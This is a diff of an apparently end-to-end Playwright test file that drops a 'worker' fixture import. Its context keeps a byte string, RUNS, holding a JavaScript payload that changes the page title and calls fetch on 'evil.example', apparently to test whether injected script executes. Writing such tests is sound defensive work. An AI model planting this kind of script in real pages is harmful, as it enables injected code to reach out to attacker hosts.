@@ -13,11 +13,9 @@ from playwright.async_api import BrowserContext, Error, Request, expect
 from tests.e2e.conftest import Sit
 from tests.e2e.screen import Screen
 from tests.e2e.team import Colleague
-from tests.e2e.test_files import file, joins, names_said, worker
+from tests.e2e.test_files import file, joins, names_said
 from tests.files.making import WORD, bare_dicom, dicom, flood, picture, tiff, zipped
 from tests.server import LiveServer
-
-__all__ = ["worker"]  # a fixture
 
 # Whatever runs says so, and asks somebody else for something.
 RUNS = b"document.title='perce';fetch('http://evil.example/')"
